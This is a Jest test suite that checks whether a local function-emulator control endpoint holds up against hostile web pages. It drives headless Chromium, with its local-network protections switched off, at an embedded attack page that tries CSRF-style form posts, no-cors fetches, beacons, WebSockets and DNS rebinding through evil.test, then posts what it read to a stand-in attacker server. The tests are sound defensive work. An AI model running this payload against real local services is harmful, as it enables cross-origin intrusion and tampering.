// Pages of other origins, in a real browser, against the control endpoint.
import { execFile, spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import type { IncomingMessage, RequestListener, ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterEach, describe, expect, it } from '@jest/globals';
import { freePorts } from '../../bench/free-port';
import { signalGroup } from '../../controller/core/child-process';
import { chromiumCommand } from '../helpers/needs';
import { listen } from '../../sandbox/http';
import type { Listening } from '../../sandbox/http';
import { answering, bench, cleanUp, deploy, temporaryDir } from './support';
import type { Bench } from './support';

const ending: (() => unknown)[] = [];

afterEach(async () => {
  for (const end of ending.splice(0)) await end();
  await cleanUp();
});

/** Debian's Chromium, alone with the page: no traffic of its own, and none of its own protection of local addresses. */
const FLAGS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
  '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests',
  '--host-resolver-rules=MAP evil.test 127.0.0.1',
];

/** Opens a page; the browser ends with the test, and with it every process that it started. */
function open(url: string): void {
  const profile = mkdtempSync(join(tmpdir(), 'teal-chromium-'));
  const flags = [...FLAGS, `--user-data-dir=${profile}`, url];
  const browser = spawn(chromiumCommand(), flags, { stdio: 'ignore', detached: true });
  const ended = new Promise((resolve) => browser.once('close', resolve));
  ending.push(async () => {
    if (browser.pid !== undefined) signalGroup(browser.pid, 'SIGKILL');
    await ended;
    // Processes of the browser may still be about to end.
    rmSync(profile, { recursive: true, force: true, maxRetries: 50, retryDelay: 20 });
  });
}

/** What a page reports: everything that it could read of the endpoints that it attacked. */
interface Report {
  readonly attempts: number;
  readonly read: readonly string[];
}

/** A server of an attacker: serves a page, and receives what it reports. `moved` is awaited by a page that asks for it. */
async function startAttacker(page: string, moved: () => Promise<void>) {
  let report: (report: Report) => void = () => undefined;
  const reported = new Promise<Report>((resolve) => (report = resolve));
  const handle: RequestListener = (request, response) => {
    response.setHeader('access-control-allow-origin', '*');
    if (request.url === '/') return void response.setHeader('content-type', 'text/html').end(page);
    if (request.url === '/moved') return void moved().then(() => response.end());
    void bodyOf(request).then((body) => {
      if (request.url === '/report') report(JSON.parse(body) as Report);
      response.end();
    });
  };
  const server = await listen(0, 'the attacker', handle);
  ending.push(() => server.close());
  return { server, reported };
}

async function bodyOf(request: IncomingMessage): Promise<string> {
  let body = '';
  for await (const chunk of request) body += String(chunk);
  return body;
}

/** A server that answers every page, and keeps the lines of what it was asked: it proves that the browser sent the attacks. */
async function startOpenServer(): Promise<Listening & { readonly asked: string[] }> {
  const asked: string[] = [];
  const server = await listen(0, 'an open server', (request: IncomingMessage, response: ServerResponse) => {
    asked.push(`${request.method} ${request.url}`);
    response.setHeader('access-control-allow-origin', '*').end('{"open":true}');
  });
  ending.push(() => server.close());
  return { ...server, asked };
}

const CREATE = 'Action=CreateTargetGroup&Version=2015-12-01&TargetType=lambda&Name=evil';
const INVOKE = '/2015-03-31/functions/svc/invocations';

/** Attacks every target in every way that a page has, and reports what it read. */
const attacks = (targets: readonly string[], reportTo: string, first = ''): string => `<!doctype html><body><script>
const targets = ${JSON.stringify(targets)};
const read = [];
let attempts = 0;
const attempt = async (run) => { attempts++; try { const got = await run(); if (got) read.push(got); } catch {} };
const get = (url, options) => attempt(async () => (await fetch(url, options)).text());
const element = (tag, set) => attempt(() => new Promise((resolve) => {
  const made = Object.assign(document.createElement(tag), set);
  made.onload = made.onerror = () => resolve();
  setTimeout(resolve, 5000);
  document.body.append(made);
}));
const form = (action, enctype, fields) => attempt(() => new Promise((resolve) => {
  const frame = Object.assign(document.createElement('iframe'), { name: 'f' + attempts });
  document.body.append(frame);
  const made = Object.assign(document.createElement('form'), { action, enctype, method: 'POST', target: frame.name });
  for (const [name, value] of fields) made.append(Object.assign(document.createElement('input'), { name, value }));
  document.body.append(made);
  frame.onload = () => { try { resolve(frame.contentDocument.body.innerText); } catch { resolve(); } };
  setTimeout(resolve, 5000);
  made.submit();
}));
const attack = async (target) => {
  const create = ${JSON.stringify(CREATE)};
  for (const type of ['text/plain', 'application/x-www-form-urlencoded']) {
    await get(target + '/', { method: 'POST', mode: 'no-cors', headers: { 'content-type': type }, body: create });
    await form(target + '/', type, [...new URLSearchParams(create)]);
  }
  await form(target + '/', 'text/plain', [['Action', 'CreateTargetGroup&Version=2015-12-01&TargetType=lambda&Name=evil&x=']]);
  await attempt(() => void navigator.sendBeacon(target + '/', create));
  await get(target + '${INVOKE}', { method: 'POST', mode: 'no-cors', body: '{}' });
  await element('img', { src: target + '/?' + create });
  await element('script', { src: target + '/_teal/metrics' });
  for (const path of ['/_teal/health', '/_teal/metrics', '/_teal/faults', '/2015-03-31/functions', '/2015-03-31/functions/svc']) {
    await get(target + path);
    await get(target + path, { mode: 'no-cors', credentials: 'include' });
  }
  await get(target + '/', { method: 'POST', headers: { 'content-type': 'text/plain' }, body: 'Action=GetCallerIdentity&Version=2011-06-15' });
  await get(target + '/2015-03-31/functions/svc', { method: 'DELETE' });
  await get(target + '/_teal/faults/svc', { method: 'PUT', body: '{"kind":"errors","percent":100}' });
  await get(target + '/2015-03-31/functions', { headers: { authorization: 'Bearer x' } });
  await attempt(() => new Promise((resolve) => {
    const socket = new WebSocket(target.replace('http', 'ws') + '/');
    socket.onopen = () => resolve('a socket');
    socket.onerror = () => resolve();
  }));
};
(async () => {
  ${first}
  for (const target of targets) await attack(target);
  await fetch('${reportTo}/report', { method: 'POST', body: JSON.stringify({ attempts, read }) });
})();
</script>`;

interface Snapshot {
  readonly state: string;
  readonly logs: readonly string[];
}

/** Everything that an action of the control endpoint leaves: its state, and the logs of the functions that ran. */
function snapshot(on: Bench): Snapshot {
  const logs = join(on.dir, 'logs');
  return { state: readFileSync(join(on.dir, 'state.json'), 'utf8'), logs: existsSync(logs) ? readdirSync(logs) : [] };
}

/** What an answer of the control endpoint says; a page may read that it was refused. */
const withoutRefusals = (read: readonly string[]): readonly string[] =>
  read.filter((text) => !text.includes('does not answer this request'));

describe('a page in Chromium', () => {
  it('of another origin reads nothing and changes nothing', async () => {
    const on = await bench();
    await deploy(on, 'svc', answering('svc'));
    const before = snapshot(on);
    const openServer = await startOpenServer();
    const names = ['127.0.0.1', 'localhost', 'evil.test'];
    const targets = names.map((name) => `http://${name}:${on.controlPort}`);
    let page = '';
    const handle: RequestListener = (_, response) => void response.setHeader('content-type', 'text/html').end(page);
    const pages = await listen(0, 'the page', handle);
    ending.push(() => pages.close());
    const { server, reported } = await startAttacker('', () => Promise.resolve());
    page = attacks([...targets, `http://127.0.0.1:${openServer.port}`], `http://127.0.0.1:${server.port}`);
    open(`http://evil.test:${pages.port}/`);
    const { attempts, read } = await reported;
    expect(attempts).toBeGreaterThan(90);
    expect(new Set(read)).toEqual(new Set(['{"open":true}']));
    expect(openServer.asked).toEqual(expect.arrayContaining(['POST /', `POST ${INVOKE}`, `GET /?${CREATE}`]));
    expect(snapshot(on)).toEqual(before);
  }, 120_000);

  it('whose name leads here since it was loaded reads nothing and changes nothing', async () => {
    const [, controlPort] = await freePorts();
    const stateDir = temporaryDir();
    let page = '';
    const handle: RequestListener = (_, response) => void response.setHeader('content-type', 'text/html').end(page);
    const loaded = await listen(controlPort, 'the page', handle);
    const moved: { on?: Bench; before?: Snapshot } = {};
    const { server, reported } = await startAttacker('', async () => {
      await loaded.close();
      const on = await bench({ controlPort, stateDir });
      await deploy(on, 'svc', answering('svc'));
      Object.assign(moved, { on, before: snapshot(on) });
    });
    const reportTo = `http://127.0.0.1:${server.port}`;
    page = attacks([`http://evil.test:${controlPort}`], reportTo, `await fetch('${reportTo}/moved');`);
    open(`http://evil.test:${controlPort}/`);
    const { attempts, read } = await reported;
    expect(attempts).toBeGreaterThan(20);
    expect(withoutRefusals(read)).toEqual([]);
    expect(read.length).toBeGreaterThan(5);
    expect(moved.on && snapshot(moved.on)).toEqual(moved.before);
    expect(moved.before).toBeDefined();
  }, 120_000);
});

describe('curl without the credentials', () => {
  it.each([
    ['/_teal/metrics'],
    ['/2015-03-31/functions'],
    ['/', '-d', CREATE],
    [INVOKE, '-d', '{}'],
    ['/2015-03-31/functions/svc', '-X', 'DELETE'],
    ['/_teal/faults/svc', '-X', 'PUT', '-d', '{"kind":"errors","percent":100}'],
  ])('reads nothing and changes nothing: %s %s', async (path, ...options) => {
    const on = await bench();
    await deploy(on, 'svc', answering('svc'));
    const before = snapshot(on);
    const curl = ['-sS', '-w', '\n%{http_code}', `http://127.0.0.1:${on.controlPort}${path}`, ...options];
    const { stdout: answer } = await promisify(execFile)('curl', curl);
    expect(answer).toMatch(/ctl sandbox env.*\n403$/s);
    expect(answer).not.toContain('svc');
    expect(snapshot(on)).toEqual(before);
  });
});
